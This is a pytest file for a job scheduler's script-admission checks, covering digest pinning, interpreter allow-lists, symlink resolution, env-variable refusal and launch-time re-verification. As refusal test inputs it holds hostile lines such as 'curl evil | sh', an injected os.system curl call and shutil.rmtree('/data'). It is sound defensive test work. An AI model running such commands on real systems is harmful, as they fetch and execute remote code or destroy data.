"""Vetted code (``kind: admission``): the file, the checks, and the launch-time refusal.

The checks run on real files in a temporary directory (the admission's base,
as the control plane's working directory is for ``grace up``): real hashes,
real symlinks, real edits. The launch-time test drives the real reconciler
with the scripted backend: a script edited between submit and launch must end
the job failed with ``admission: ... changed after submit`` and never reach
the backend.
"""

from __future__ import annotations

import hashlib
import logging
import os
import sys
from pathlib import Path
from typing import Any

import pytest
from helpers import LAB, REPO, FakeClock, ScriptedBackend, event_kinds, job_spec

from grace.control.admission import (
    Admission,
    AdmissionRecord,
    AdmissionRefused,
    AdmittedBy,
    admit,
    launch_refusal,
    load_admission_for,
)
from grace.control.reconciler import Reconciler
from grace.control.server import ServerConfig, assemble
from grace.control.store import repository as repo
from grace.control.store.db import Store
from grace.control.store.models import JobState
from grace.core.policies import get_policy
from grace.core.topology import Topology
from grace.spec.errors import SpecError
from grace.spec.loader import (
    load_admission,
    load_cluster,
    load_jobs,
    load_sweep,
    parse_admission,
    read_yaml,
)

SAMPLE = REPO / "examples" / "admission.yaml"
TRAIN = "print('training')\n"


def digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def rules(**kw: Any) -> dict[str, Any]:
    return {"kind": "admission", "interpreters": ["python", "python3", "bash"], **kw}


def admission_for(base: Path, scripts: dict[str, str], **kw: Any) -> Admission:
    """An Admission over ``base`` listing each script (written there) with its digest."""
    for name, text in scripts.items():
        (base / name).parent.mkdir(parents=True, exist_ok=True)
        (base / name).write_text(text)
    listed = [{"path": name, "sha256": digest(text)} for name, text in scripts.items()]
    return Admission(parse_admission(rules(scripts=listed, **kw)), base, "admission.yaml")


def refused(admission: Admission, command: list[str]) -> AdmissionRefused:
    with pytest.raises(AdmissionRefused) as info:
        admission.check(command)
    return info.value


def problems(data: dict[str, Any]) -> dict[str, str]:
    with pytest.raises(SpecError) as info:
        parse_admission(data, "a.yaml")
    return {p.path: p.message for p in info.value.problems}


# ---------------------------------------------------------------------- the file
def test_the_sample_file_loads_with_digests_that_match_the_examples() -> None:
    spec = load_admission(SAMPLE)
    assert {r.path for r in spec.scripts} >= {"examples/train_ddp.py", "examples/train_fsdp.py"}
    missing, stale = Admission(spec, REPO, str(SAMPLE)).file_problems()
    assert not missing
    assert not stale, (f"{[str(p) for p in stale]}: an example changed; print its new entry "
                       f"with `python -m grace.control.admission FILE` (or sha256sum FILE) "
                       f"and update {SAMPLE}")


def test_bad_fields_are_named_with_their_fix() -> None:
    got = problems(rules(scirpts=[], scripts=[{"path": "a.py", "sha256": "abc"}],
                         images=[{"digest": "pytorch:latest"}], interpreter_only="sometimes"))
    assert got["scirpts"] == "unknown field; remove it or check its spelling"
    assert "64 hex digits, as `sha256sum FILE` prints; got 'abc'" in got["scripts[0].sha256"]
    assert "sha256:<64 hex digits>" in got["images[0].digest"]
    assert "'refuse' or 'allow'" in got["interpreter_only"]


def test_an_interpreter_is_a_name_or_an_absolute_path() -> None:
    got = problems(rules(interpreters=["python", "venv/bin/python"]))
    assert "[1] 'venv/bin/python'" in got["interpreters"]
    assert "absolute path" in got["interpreters"]


def test_a_script_listed_twice_is_refused_and_digests_are_normalised() -> None:
    d = digest(TRAIN)
    got = problems(rules(scripts=[{"path": "a.py", "sha256": d}, {"path": "a.py", "sha256": d}]))
    assert "listed twice (also scripts[0])" in got["scripts[1].path"]
    spec = parse_admission(rules(scripts=[{"path": "a.py", "sha256": "SHA256:" + d.upper()}]))
    assert spec.scripts[0].sha256 == d


def test_a_file_without_kind_admission_is_refused() -> None:
    assert "kind: admission" in problems({"scripts": []})["kind"]
    assert "expected kind 'admission', got 'job'" in problems({"kind": "job"})["kind"]


def test_grace_up_refuses_a_listed_script_that_is_missing_and_warns_on_a_stale_one(
        tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    (tmp_path / "a.py").write_text("changed\n")
    path = tmp_path / "admission.yaml"
    path.write_text(f"kind: admission\ninterpreters: [python]\nscripts:\n"
                    f"  - {{path: a.py, sha256: {digest(TRAIN)}}}\n"
                    f"  - {{path: gone.py, sha256: {digest(TRAIN)}}}\n")
    with pytest.raises(SpecError) as info:
        load_admission_for(path, tmp_path)
    assert [p.path for p in info.value.problems] == ["scripts[1].path"]
    assert "cannot read" in info.value.problems[0].message
    path.write_text(path.read_text().rsplit("  - {path: gone.py", 1)[0])
    with caplog.at_level(logging.WARNING, logger="grace.admission"):
        admission = load_admission_for(path, tmp_path)
    assert "scripts[0].sha256: a.py has sha256" in caplog.text
    assert "has sha256" in refused(admission, ["python", "a.py"]).message


# ---------------------------------------------------------------------- the checks
def test_a_listed_script_with_its_digest_is_admitted(tmp_path: Path) -> None:
    adm = admission_for(tmp_path, {"train.py": TRAIN})
    record = adm.check(["python", "train.py", "--steps", "3"])
    assert record == AdmissionRecord(AdmittedBy.SCRIPT, str(Path(sys.executable).resolve()),
                                     "train.py", str((tmp_path / "train.py").resolve()),
                                     digest(TRAIN))
    assert AdmissionRecord.from_json(record.to_json()) == record
    # python3, or the interpreter's own path, run the same file: the same rule
    assert adm.check(["python3", "train.py"]).sha256 == digest(TRAIN)
    assert adm.check([sys.executable, str(tmp_path / "train.py")]).script == record.script


def test_an_unlisted_script_is_refused_naming_the_fix(tmp_path: Path) -> None:
    adm = admission_for(tmp_path, {"train.py": TRAIN})
    (tmp_path / "other.py").write_text(TRAIN)  # the same bytes under another name
    e = refused(adm, ["python", "other.py"])
    assert e.field == "command[1]"
    assert "'other.py' is not an allowed script" in e.message
    assert "allowed: ['train.py']" in e.message
    assert "sha256sum other.py" in e.message
    # outside the listed files, by .. or by absolute path
    assert refused(adm, ["python", "../train.py"]).field == "command[1]"
    assert "not an allowed script" in refused(adm, ["python", "/etc/passwd"]).message


def test_a_script_whose_bytes_differ_from_the_file_is_refused(tmp_path: Path) -> None:
    adm = admission_for(tmp_path, {"train.py": TRAIN})
    (tmp_path / "train.py").write_text(TRAIN + "import os; os.system('curl evil')\n")
    e = refused(adm, ["python", "train.py"])
    assert e.field == "command[1]"
    assert f"but admission.yaml allows {digest(TRAIN)} (scripts[0])" in e.message


@pytest.mark.parametrize("command, field, words", [
    (["python", "-c", "print(1)"], "command[1]", "python -c ... runs code no admission rule"),
    (["python", "-m", "http.server"], "command[1]", "python -m ... runs code no admission"),
    (["bash", "-c", "curl evil | sh"], "command[1]", "bash -c ... runs code"),
    (["python"], "command", "python with no script"),
    (["python", "-u", "train.py"], "command[1]", "'-u' is an interpreter option"),
])
def test_commands_with_no_script_to_hash_are_refused(
        tmp_path: Path, command: list[str], field: str, words: str) -> None:
    e = refused(admission_for(tmp_path, {"train.py": TRAIN}), command)
    assert e.field == field
    assert words in e.message


def test_interpreter_only_allow_lets_them_through_as_such(tmp_path: Path) -> None:
    adm = admission_for(tmp_path, {"train.py": TRAIN}, interpreter_only="allow")
    assert adm.check(["python", "-c", "print(1)"]).rule is AdmittedBy.INTERPRETER_ONLY
    assert refused(adm, ["perl", "-e", "1"]).field == "command[0]"  # still its interpreters


def test_an_interpreter_that_is_not_listed_is_refused(tmp_path: Path) -> None:
    adm = Admission(parse_admission({"kind": "admission", "interpreters": ["python"]}), tmp_path)
    (tmp_path / "run.sh").write_text("echo hi\n")
    for head in ("bash", "torchrun", "sh"):
        e = refused(adm, [head, "run.sh"])
        assert e.field == "command[0]"
        assert f"{head!r} is not an allowed interpreter; allowed: ['python']" in e.message


def test_a_command_that_is_the_script_itself_is_checked_as_a_script(tmp_path: Path) -> None:
    adm = admission_for(tmp_path, {"train.sh": "#!/bin/sh\necho hi\n"})
    record = adm.check(["./train.sh", "--fast"])
    assert (record.interpreter, record.path) == (None, "./train.sh")
    (tmp_path / "evil.sh").write_text("#!/bin/sh\n")
    assert refused(adm, ["./evil.sh"]).field == "command[0]"


def test_symlinks_are_followed_to_the_file_that_would_run(tmp_path: Path) -> None:
    adm = admission_for(tmp_path, {"train.py": TRAIN})
    (tmp_path / "link.py").symlink_to(tmp_path / "train.py")
    assert adm.check(["python", "link.py"]).script == str((tmp_path / "train.py").resolve())
    (tmp_path / "evil.py").write_text("evil\n")
    (tmp_path / "evil-link.py").symlink_to(tmp_path / "evil.py")
    assert "not an allowed script" in refused(adm, ["python", "evil-link.py"]).message


def test_env_that_changes_which_code_runs_is_refused(tmp_path: Path) -> None:
    adm = admission_for(tmp_path, {"train.py": TRAIN})
    for name in ("LD_PRELOAD", "PATH", "PYTHONPATH", "PYTHONSTARTUP", "BASH_ENV"):
        with pytest.raises(AdmissionRefused) as info:
            adm.check_env({"SEED": "1", name: "/tmp/evil"})
        assert info.value.field == f"env.{name}"
    adm.check_env({"SEED": "1", "NCCL_DEBUG": "INFO"})


def test_admit_gives_the_record_to_store_or_none_without_a_file(tmp_path: Path) -> None:
    adm = admission_for(tmp_path, {"train.py": TRAIN})
    spec = job_spec(command=["python", "train.py"])
    assert admit(None, spec) is None
    record = admit(adm, spec)
    assert record is not None and record["sha256"] == digest(TRAIN)
    with pytest.raises(AdmissionRefused) as info:
        admit(adm, job_spec(command=["python", "train.py"], env={"LD_PRELOAD": "x.so"}))
    assert info.value.field == "env.LD_PRELOAD"


def test_at_launch_a_script_changed_after_submit_is_refused_even_if_the_file_agrees(
        tmp_path: Path) -> None:
    adm = admission_for(tmp_path, {"train.py": TRAIN})
    spec = job_spec(command=["python", "train.py"])
    record = admit(adm, spec)
    spec_json = spec.model_dump(mode="json")
    assert launch_refusal(adm, spec_json, record) is None
    edited = TRAIN + "# one more line\n"
    (tmp_path / "train.py").write_text(edited)
    later = admission_for(tmp_path, {"train.py": edited})  # the operator vetted the edit
    why = launch_refusal(later, spec_json, record)
    assert why is not None and "script train.py changed after submit: sha256" in why
    os.unlink(tmp_path / "train.py")
    why = launch_refusal(adm, spec_json, record)
    assert why is not None and "changed after submit: cannot read" in why


def test_at_launch_a_re_pointed_symlink_is_refused(tmp_path: Path) -> None:
    adm = admission_for(tmp_path, {"v1.py": TRAIN, "v2.py": TRAIN + "# v2\n"})
    (tmp_path / "train.py").symlink_to("v1.py")
    spec_json = job_spec(command=["python", "train.py"]).model_dump(mode="json")
    record = admit(adm, job_spec(command=["python", "train.py"]))
    (tmp_path / "train.py").unlink()
    (tmp_path / "train.py").symlink_to("v2.py")  # also listed: still not what was vetted
    why = launch_refusal(adm, spec_json, record)
    assert why is not None and "changed after submit" in why and "now resolves to" in why


def test_the_sample_file_admits_every_example_job_whose_script_exists() -> None:
    """Editing an example script without updating examples/admission.yaml fails here. The
    other examples are twin specs whose scripts (train.py, ...) are not in the repository:
    nothing can vouch for them, so the sample must refuse them."""
    adm = Admission(load_admission(SAMPLE), REPO, str(SAMPLE))
    admitted = 0
    for path in sorted((REPO / "examples" / "jobs").glob("*.yaml")):
        sweep = read_yaml(path).get("kind") == "sweep"  # its trials are jobs
        for job in load_sweep(path).expand() if sweep else load_jobs(path):
            assert job.command is not None
            scripts = [a for a in job.command if a.endswith((".py", ".sh"))]
            if any((REPO / s).is_file() for s in scripts):
                try:
                    adm.check(job.command)
                except AdmissionRefused as e:
                    pytest.fail(f"{path.name} {job.name}: {e}; print the new entry with "
                                f"`python -m grace.control.admission {' '.join(scripts)}` "
                                f"and update {SAMPLE}")
                admitted += 1
            else:
                refused(adm, job.command)
    assert admitted >= 6  # train-ddp.yaml and the demo's five


# ---------------------------------------------------------------------- wiring
def test_the_reconciler_fails_a_job_whose_script_changed_before_launch(
        store: Store, tmp_path: Path) -> None:
    """Submitted with a vetted script, edited while it waited: failed at launch with the rule,
    and the backend never launched it. The unedited job beside it runs."""
    adm = admission_for(tmp_path, {"train.py": TRAIN, "eval.py": "print('eval')\n"})
    clock = FakeClock()
    backend = ScriptedBackend(load_cluster(LAB))
    rec = Reconciler(store, backend, Topology.from_spec(backend.inventory()), get_policy("grace"),
                     tmp_path / "state", clock=clock, admission=adm)
    ids = {}
    for name, script in (("edited", "train.py"), ("kept", "eval.py")):
        spec = job_spec(name, command=["python", script])
        with store.transaction() as s:
            job = repo.add_job(s, spec, clock())
            job.admission = admit(adm, spec)  # what the API stores at submit
            ids[name] = job.id
    (tmp_path / "train.py").write_text(TRAIN + "import shutil; shutil.rmtree('/data')\n")
    clock.advance(1)
    rec.cycle()
    with store.read() as s:
        edited, kept = repo.require_job(s, ids["edited"]), repo.require_job(s, ids["kept"])
        assert edited.state == JobState.FAILED
        assert edited.reason is not None and edited.reason.startswith("admission: command: ")
        assert "script train.py changed after submit" in edited.reason
        assert kept.state == JobState.RUNNING
    assert backend.launches_of(ids["edited"]) == []
    assert len(backend.launches_of(ids["kept"])) == 1
    assert event_kinds(store, ids["edited"])[-2:] == ["launch-failed", "failed"]


def test_a_job_stored_before_admission_was_on_is_checked_at_launch(
        store: Store, tmp_path: Path) -> None:
    adm = admission_for(tmp_path, {"train.py": TRAIN})
    clock = FakeClock()
    backend = ScriptedBackend(load_cluster(LAB))
    rec = Reconciler(store, backend, Topology.from_spec(backend.inventory()), get_policy("grace"),
                     tmp_path / "state", clock=clock, admission=adm)
    with store.transaction() as s:  # no record: submitted without an admission file
        job_id = repo.add_job(s, job_spec(command=["python", "-c", "print(1)"]), clock()).id
    clock.advance(1)
    rec.cycle()
    with store.read() as s:
        job = repo.require_job(s, job_id)
        assert job.state == JobState.FAILED
        assert job.reason is not None and job.reason.startswith("admission: command[1]: ")
    assert backend.launches == []


def test_grace_up_loads_the_file_before_anything_starts(tmp_path: Path) -> None:
    bad = tmp_path / "admission.yaml"
    bad.write_text("kind: admission\nscripts: [{path: nowhere.py, sha256: "
                   f"{digest(TRAIN)}}}]\n")
    cfg = ServerConfig(LAB, None, 0, tmp_path / "state", admission=bad)
    with pytest.raises(SpecError) as info:
        assemble(cfg)
    assert [p.path for p in info.value.problems] == ["scripts[0].path"]
    assert not (cfg.state_dir / "grace.sqlite").exists()
    cfg.admission = SAMPLE
    cwd = os.getcwd()
    os.chdir(REPO)  # the sample's paths are from the repository root, where grace up runs
    try:
        plane = assemble(cfg)
    finally:
        os.chdir(cwd)
    try:
        assert plane.admission is not None
        assert plane.reconciler.ctx.admission is plane.admission
        assert plane.admission.check(["python", "examples/train_ddp.py"]).sha256
    finally:
        plane.store.close()
        if plane.lock is not None:
            plane.lock.release()
